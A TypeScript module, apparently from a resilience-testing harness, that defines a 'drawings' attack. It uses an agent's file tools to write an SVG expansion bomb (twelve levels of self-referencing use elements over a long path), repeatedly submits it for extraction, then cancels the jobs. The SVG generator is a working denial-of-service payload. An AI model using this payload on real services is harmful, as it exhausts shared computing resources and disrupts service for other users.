import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from './attack.ts';
import { call, openAgent } from './agents.ts';

const JOBS = 4;
const ASKED_EVERY_MS = 200;
const RUNS_MS = 2_000;
const AFTER_MS = 12_000;

/** Drawings that never end, extracted and cancelled one after the other. */
export const drawings: Attack = async (site) => {
  const agent = await openAgent(site);
  await call(agent, 'file_write', { path: 'bomb.svg', text: bomb() });
  for (let n = 0; n < JOBS; n++) {
    const { job_id } = await call(agent, 'file_extract', { path: 'bomb.svg' });
    while ((await call(agent, 'job_get', { job_id }))['status'] === 'queued') await sleep(ASKED_EVERY_MS);
    await sleep(RUNS_MS);
    await call(agent, 'job_cancel', { job_id }).catch(() => undefined); // it may have ended by itself
  }
  await sleep(AFTER_MS);
  agent.close();
  return { words: `${JOBS} drawings extracted and cancelled` };
};

/** A drawing without a size whose parts use each other: to know its size is to draw it. */
function bomb(): string {
  const path = `M0 0${Array.from({ length: 2_000 }, (_, n) => `L${n % 97} ${(n * 7) % 89}`).join('')}`;
  const levels = Array.from({ length: 12 }, (_, n) => `<g id="g${n + 1}">${`<use href="#g${n}"/>`.repeat(10)}</g>`);
  return `<svg xmlns="http://www.w3.org/2000/svg"><defs><path id="g0" d="${path}"/>${levels.join('')}</defs><use href="#g12"/></svg>`;
}
